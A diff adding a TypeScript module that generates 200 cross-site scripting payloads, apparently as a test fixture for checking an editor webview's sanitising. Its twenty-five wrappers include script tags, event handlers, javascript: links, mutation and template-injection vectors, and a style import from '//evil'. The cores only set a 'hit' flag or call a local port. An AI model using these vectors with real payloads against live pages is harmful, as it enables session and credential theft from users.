@@ -1,0 +1,40 @@
+const wrappers: readonly ((core: string) => string)[] = [
+  (core) => `<script>${core}</script>`,
+  (core) => `<img src=x onerror="${core}">`,
+  (core) => `<svg onload=${core}>`,
+  (core) => `"><svg/onload=${core}>`,
+  (core) => `<a href="javascript:${core}">x</a>`,
+  (core) => `[x](javascript:${core})`,
+  (core) => `<javascript:${core}>`,
+  (core) => `</textarea><iframe srcdoc="<script>${core}</script>">`,
+  (core) => `<body onfocus=${core} autofocus>`,
+  (core) => `<details open ontoggle=${core}>`,
+  (core) => `<style>@import '//evil';*{background:url("javascript:${core}")}</style>`,
+  (core) => `<math><mtext><table><mglyph><style><img src=x onerror=${core}>`,
+  (core) => `<!--<img src=x onerror=${core}>-->`,
+  (core) => `<template><script>${core}</script></template>`,
+  (core) => `<object data="data:text/html,<script>${core}</script>">`,
+  (core) => `<vscode-button onclick="${core}">Connect</vscode-button>`,
+  (core) => `<shiproom-panel onload="${core}"></shiproom-panel>`,
+  (core) => `<meta http-equiv=refresh content="0;javascript:${core}">`,
+  (core) => `<form action="javascript:${core}"><input autofocus onfocus=${core}>`,
+  (core) => `\u0060\u0060\u0060html\n<img src=x onerror=${core}>\n\u0060\u0060\u0060`,
+  (core) => `{{constructor.constructor("${core}")()}}`,
+  (core) => `\${${core}}`,
+  (core) => `<%= ${core} %>`,
+  (core) => `?lit$123456789$ <!--?lit$--> <b onclick=${core}>`,
+  (core) => `#{${core}} *{${core}}`,
+];
+const cores: readonly string[] = [
+  'top.hit=1',
+  'globalThis.hit=true',
+  'window[`hit`]=1',
+  'fetch(`http://127.0.0.1:9/hit`)',
+  '\\u0068it=1',
+  '&#104;it=1',
+  'hit\u200B=1',
+  '\u202Ehit=1\u2066',
+];
+
+/** Two hundred ways to have a script run by whoever takes words for markup. */
+export const payloads: readonly string[] = cores.flatMap((core) => wrappers.map((wrap) => wrap(core)));
